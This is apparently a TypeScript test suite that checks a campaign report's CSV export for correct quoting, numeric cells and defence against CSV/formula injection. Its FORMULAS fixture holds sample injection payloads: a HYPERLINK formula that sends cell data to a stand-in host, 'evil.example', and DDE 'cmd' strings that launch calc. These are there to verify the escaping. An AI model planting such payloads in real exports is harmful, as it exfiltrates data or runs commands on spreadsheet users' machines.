import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { CampaignRow } from '../../src/rules/reports/campaigns.js'
import { campaignCsv } from '../../src/rules/reports/csv.js'
import { campaign, policy, TestClock, uniquePrefix } from '../helpers/app.js'
import { REPORTS_AUTH, reportApp, type ReportApp } from '../helpers/reports.js'

const clock = new TestClock(Date.parse('2026-06-01T12:00:00Z'))
const RANGE = 'from=2026-06-01&to=2026-06-01'
/** Free text a spreadsheet would run as a formula if a cell began with it (CSV injection). */
const FORMULAS = {
  name: '=HYPERLINK("https://evil.example/?d="&A1,"Click for prize")',
  category: '+1+cmd|\' /C calc\'!A0',
  reason: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  minus: '-2+3+cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1'
}
const NUMERIC = /^(requested|allowed|shown|suppressed_\w+|dismissed|clicked|complained|converted|discarded|dismissRate|complaintRate)$/

let t: ReportApp
beforeAll(async () => {
  t = await reportApp('memory', {
    policy: policy(),
    campaigns: [
      campaign('plain', { category: 'promo' }),
      // Names that need quoting: a comma, a quote, a line break.
      campaign('comma', { category: 'loans, "quick"\r\nand easy' }),
      campaign('formula', { name: FORMULAS.name, category: FORMULAS.category }),
      campaign('minus', { name: FORMULAS.minus, category: FORMULAS.tab }),
      campaign('cr', { name: FORMULAS.cr, category: 'other' })
    ]
  }, uniquePrefix(), clock)
  await t.decide({ userId: 'csv-user', placement: 'home', candidates: [{ campaignId: 'plain' }, { campaignId: 'comma' }, { campaignId: 'formula' }] })
  t.app.reports.recordEvent({ type: 'shown', campaignId: 'plain', cohort: 'treated' })
  t.app.reports.recordEvent({ type: 'complained', campaignId: 'plain', cohort: 'treated' })
  const penalty = await t.app.inject({
    method: 'POST',
    url: '/v1/campaigns/formula/penalties',
    headers: { authorization: 'Bearer dev-admin-key', 'if-match': '*' },
    payload: { action: 'suspend', reason: FORMULAS.reason }
  })
  expect(penalty.statusCode, penalty.body).toBeLessThan(300)
})
afterAll(async () => { await t.app.close() })

const csvRows = async (): Promise<Record<string, string>[]> => {
  const csv = await t.get(`/v1/reports/campaigns?${RANGE}`, { ...REPORTS_AUTH, accept: 'text/csv' })
  expect(csv.status).toBe(200)
  expect(csv.type).toMatch(/^text\/csv/)
  return parse(csv.text, { columns: true }) as Record<string, string>[]
}

describe('the campaign report as CSV', () => {
  it('round-trips through a CSV parser to the same rows as the JSON', async () => {
    const json = await t.get(`/v1/reports/campaigns?${RANGE}`)
    const rows = await csvRows()
    expect(rows.map((r) => r.campaignId)).toEqual(json.body.campaigns.map((c: any) => c.campaignId))
    const comma = rows.find((r) => r.campaignId === 'comma')
    expect(comma?.category).toBe('loans, "quick"\r\nand easy')
    expect(comma?.suppressed_lower_priority).toBe('1')
    const plain = rows.find((r) => r.campaignId === 'plain')
    expect(plain).toMatchObject({ name: 'plain', requested: '1', allowed: '1', shown: '1', complained: '1', complaintRate: '1', dismissRate: '0', penaltyAction: '' })
  })

  it('starts no cell with = + - @ tab or CR, yet shows each text behind a leading quote a spreadsheet hides', async () => {
    const rows = await csvRows()
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) expect(cell, `${row.campaignId} ${column}`).not.toMatch(/^[=+\-@\t\r]/)
    }
    const byId = Object.fromEntries(rows.map((r) => [r.campaignId, r]))
    expect(byId.formula).toMatchObject({ name: `'${FORMULAS.name}`, category: `'${FORMULAS.category}`, penaltyAction: 'suspend', penaltyReason: `'${FORMULAS.reason}` })
    expect(byId.minus).toMatchObject({ name: `'${FORMULAS.minus}`, category: `'${FORMULAS.tab}` })
    expect(byId.cr?.name).toBe(`'${FORMULAS.cr}`)
  })

  it('keeps numbers numbers: every count and rate cell is a plain number', async () => {
    const rows = await csvRows()
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (NUMERIC.test(column)) expect(cell, `${row.campaignId} ${column}`).toMatch(/^(\d+(\.\d+)?)?$/)
      }
    }
    expect(rows.find((r) => r.campaignId === 'formula')).toMatchObject({ requested: '1', suppressed_lower_priority: '1' })
  })

  it('would write a negative number as a number, not as escaped text', () => {
    // No count is negative today; a future signed figure (a change, a balance) must stay a number.
    const row: CampaignRow = {
      ...{ campaignId: 'signed', name: '-5 days', class: 'marketing', category: 'promo', status: 'active', requested: -3, allowed: 0, shown: 0 },
      ...{ suppressed: {}, dismissed: 0, clicked: 0, complained: 0, converted: 0, discarded: 0, dismissRate: -0.25, complaintRate: null, penalty: null }
    }
    const [parsed] = parse(campaignCsv([row]), { columns: true }) as Record<string, string>[]
    expect(parsed).toMatchObject({ name: "'-5 days", requested: '-3', dismissRate: '-0.25', complaintRate: '' })
  })

  it('filters by category', async () => {
    const res = await t.get(`/v1/reports/campaigns?${RANGE}&category=promo`)
    expect(res.body.campaigns.map((c: any) => c.campaignId)).toEqual(['plain'])
  })
})
